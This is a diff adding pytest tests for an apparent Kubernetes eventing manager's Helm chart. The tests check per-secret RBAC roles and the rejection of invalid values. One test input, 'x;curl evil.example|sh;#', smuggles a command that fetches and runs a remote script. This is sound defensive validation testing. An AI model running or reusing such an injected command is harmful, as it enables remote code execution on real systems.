@@ -8,6 +8,7 @@ import yaml
 
 from eventing_manager.credentials import Credentials
 from eventing_manager.errors import ChartError, HelmKilledError
+from eventing_manager.eventmesh import role_name
 from eventing_manager.names import DRAINING_ANNOTATION
 from eventing_manager.render import ChartRenderer
 from eventing_manager.spec import BackendType, EventingSpec, NatsSettings, Storage, StorageType
@@ -303,6 +304,78 @@ async def test_no_rule_of_the_manager_has_a_wildcard(helm, module_chart):
     rules = [rule for role in roles for rule in role["rules"]]
     assert rules
     assert not [rule for rule in rules if any("*" in values for values in rule.values())]
+
+
+NAMES_OF_SECRETS = [
+    "backend",
+    "leader-election",
+    "eventmesh-a",
+    "a.b",
+    "1",
+    "true",
+    "1e3",
+    "x" * 226,
+    "x" * 227,
+    "x" * 253,
+]
+
+
+async def test_every_eventmesh_secret_has_a_role_of_its_own(helm, module_chart):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+    secrets = [
+        {"namespace": namespace, "name": name}
+        for namespace in ("kyma-system", "1e3")
+        for name in NAMES_OF_SECRETS
+    ]
+
+    objects = await renderer.render({"eventmesh": {"secrets": secrets}})
+
+    roles = {identity(obj): obj for obj in objects if obj["kind"] == "Role"}
+    bindings = {identity(obj): obj for obj in objects if obj["kind"] == "RoleBinding"}
+    assert len(roles) == len([obj for obj in objects if obj["kind"] == "Role"]), "no two have one name"
+    assert roles.keys() == bindings.keys()
+    for secret in secrets:
+        key = (secret["namespace"], role_name(secret["name"]))
+        assert roles[key]["rules"] == [
+            {
+                "apiGroups": [""],
+                "resources": ["secrets"],
+                "resourceNames": [secret["name"]],
+                "verbs": ["get", "list", "watch"],
+            }
+        ]
+        assert bindings[key]["roleRef"]["name"] == role_name(secret["name"])
+
+
+def identity(obj):
+    return obj["metadata"]["namespace"], obj["metadata"]["name"]
+
+
+def of_secret(**changes):
+    return {"eventmesh": {"secrets": [{"namespace": "shop", "name": "mesh", **changes}]}}
+
+
+@pytest.mark.parametrize(
+    ("values", "named"),
+    [
+        (of_secret(name="x;curl evil.example|sh;#"), "secrets/0/name'"),
+        (of_secret(name="mesh\n"), "secrets/0/name'"),
+        (of_secret(name='"'), "secrets/0/name'"),
+        (of_secret(name="Mesh"), "secrets/0/name'"),
+        (of_secret(name="x" * 254), "secrets/0/name'"),
+        (of_secret(name=1), "secrets/0/name'"),
+        (of_secret(namespace="shop/mesh"), "secrets/0/namespace'"),
+        (of_secret(namespace="a.b"), "secrets/0/namespace'"),
+        (of_secret(namespace="x" * 64), "secrets/0/namespace'"),
+        (of_secret(key="a"), "'key' not allowed"),
+        ({"eventmesh": {"secrets": of_secret()["eventmesh"]["secrets"] * 2}}, "items at 0 and 1"),
+    ],
+)
+async def test_a_wrong_value_of_the_module_is_refused_by_name(helm, module_chart, values, named):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+
+    with pytest.raises(ChartError, match=named):
+        await renderer.render(values)
 
 
 def test_every_field_of_the_crd_is_described(module_chart):
